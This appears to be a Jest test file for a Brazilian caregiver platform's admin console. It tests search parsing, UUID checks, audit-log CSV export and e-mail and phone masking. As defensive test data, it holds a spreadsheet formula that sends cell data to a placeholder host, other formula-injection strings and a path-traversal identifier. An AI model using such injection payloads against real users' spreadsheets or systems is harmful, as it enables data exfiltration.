import { groupsOf, isOperatorClaim } from '../../contract/team';
import { csvField } from '../../contract/audit-lines';
import type { ReadAuditPage } from './audit';
import { auditCsv, auditCsvPart } from './audit-csv-file';
import { checkUid, maskEmail, maskPhone, parseSearch } from './caregivers';

describe('groups of a verified token', () => {
  it.each([
    [['equipe'], ['equipe']],
    ['[equipe]', ['equipe']],
    ['[outra equipe]', ['outra', 'equipe']],
    ['equipe,outra', ['equipe', 'outra']],
    [undefined, []],
    [42, []],
  ])('%p → %p', (claim, groups) => {
    expect(groupsOf(claim)).toEqual(groups);
  });

  it('is an operator only with the group itself, not a look-alike', () => {
    expect(isOperatorClaim('[equipe]')).toBe(true);
    expect(isOperatorClaim('[equipes]')).toBe(false);
    expect(isOperatorClaim('[]')).toBe(false);
  });
});

describe('the Cuidadoras search box', () => {
  it.each([
    ['Maria@Exemplo.com.br ', { kind: 'email', email: 'maria@exemplo.com.br' }],
    ['(11) 98765-4321', { kind: 'phone', digits: '11987654321' }],
    ['+55 11 98765-4321', { kind: 'phone', digits: '11987654321' }],
  ])('%p', (text, search) => {
    expect(parseSearch(text)).toEqual(search);
  });

  it.each([[''], ['   '], ['maria'], ['1198765432'], ['a@b']])('refuses %p in Portuguese', (text) => {
    expect(() => parseSearch(text)).toThrow(/cuidadora|e-mail/);
  });

  it('accepts only a UUID as her id', () => {
    expect(checkUid('36ED56C4-3F4C-4B27-8C8E-1F899FAA8419')).toBe('36ed56c4-3f4c-4b27-8c8e-1f899faa8419');
    expect(() => checkUid('../../x')).toThrow('Identificador de cuidadora inválido.');
  });
});

describe('the Registro as CSV', () => {
  it('reads every page, newest first, with the console column names, who and whom as written then, and the anonymised target', async () => {
    const pages: Record<string, Awaited<ReturnType<ReadAuditPage>>> = {
      first: { entries: [{ id: 'b', at: '2026-11-23T10:00:00.000Z', actorId: 'op', actorLabel: 'ana@carey.example', action: 'acesso-bloqueado', targetId: 'uid-1', targetLabel: 'Joana Silva' }], cursor: 'next' },
      next: {
        entries: [
          { id: 'a', at: '2026-11-22T10:00:00.000Z', actorId: 'op', action: 'exclusao-iniciada', targetDeleted: true },
          { id: 'c', at: '2026-11-21T02:30:00.000Z', actorId: 'op', action: 'arquivo-importado', details: { arquivo: 'vagas.csv', familias: 2 }, state: 'pendente' },
        ],
        cursor: null,
      },
    };
    const csv = await auditCsv(async (_limit, cursor) => pages[cursor ?? 'first']);
    expect(csv).toBe(
      '\uFEFFquando;quem;ação;alvo;detalhes;situação\r\n' +
        // São Paulo's clock, as Brazilians write it: 10:00 UTC is 07:00 there; 02:30 UTC is the day before.
        '23/11/2026 07:00:00;ana@carey.example;Acesso bloqueado;Joana Silva;;\r\n' +
        '22/11/2026 07:00:00;op;Exclusão da conta iniciada (LGPD);conta excluída;;\r\n' +
        '20/11/2026 23:30:00;op;Arquivo de vagas enviado;;"arquivo: vagas.csv; famílias gravadas: 2";pendente: não concluída\r\n',
    );
  });

  it('goes out in parts of at most 5,000 lines, the BOM and header on the first only', async () => {
    const line = (i: number) => ({ id: String(i), at: '2026-11-23T10:00:00.000Z', actorId: 'op', action: 'vaga-encerrada' as const });
    const read: ReadAuditPage = async (limit, cursor) => {
      const from = Number(cursor ?? 0);
      const to = Math.min(from + limit, 12_000);
      return { entries: Array.from({ length: to - from }, (_, i) => line(from + i)), cursor: to < 12_000 ? String(to) : null };
    };
    const first = await auditCsvPart(read);
    expect(first.text.startsWith('\uFEFFquando;quem;')).toBe(true);
    expect([first.lines, first.cursor]).toEqual([5000, '5000']);
    const second = await auditCsvPart(read, first.cursor!);
    expect(second.text.startsWith('23/11/2026 07:00:00;op;Vaga encerrada;')).toBe(true);
    const third = await auditCsvPart(read, second.cursor!);
    expect([third.lines, third.cursor]).toEqual([2000, null]);
    expect((await auditCsv(read)).trim().split('\r\n')).toHaveLength(12_001);
  });

  it('neutralises cells a spreadsheet would run as a formula, and quotes separators', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"Clique")', '+1+1', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', 'Ana; Souza'];
    const csv = await auditCsv(async () => ({ entries: hostile.map((targetLabel, i) => ({ id: String(i), at: '2026-11-23T10:00:00.000Z', actorId: 'op', action: 'acesso-bloqueado' as const, targetId: 'uid', targetLabel })), cursor: null }));
    const targets = csv.trim().split('\r\n').slice(1).map((line) => line.slice(line.indexOf(';Acesso bloqueado;') + ';Acesso bloqueado;'.length, line.lastIndexOf(';;')));
    expect(targets).toEqual(['"\'=HYPERLINK(""http://x.example/?""&A1,""Clique"")"', "'+1+1", "'-2+3", "'@SUM(1)", "'\tcmd", '"\'\rcmd"', '"Ana; Souza"']);
    expect(csvField('Maria')).toBe('Maria');
  });
});

describe("'Cuidadoras' results, masked until her page is opened", () => {
  it.each([
    ['joana.silva@gmail.com', 'j***@g***.com'],
    ['a@exemplo.com.br', 'a***@e***.br'],
    ['', ''],
  ])('e-mail %s reads %s', (email, masked) => expect(maskEmail(email)).toBe(masked));
  it.each([
    ['31987654321', '(31) *****-4321'],
    ['(11) 91234-5678', '(11) *****-5678'],
    ['+55 21 99876-0001', '(21) *****-0001'],
  ])('phone %s reads %s', (phone, masked) => expect(maskPhone(phone)).toBe(masked));
});
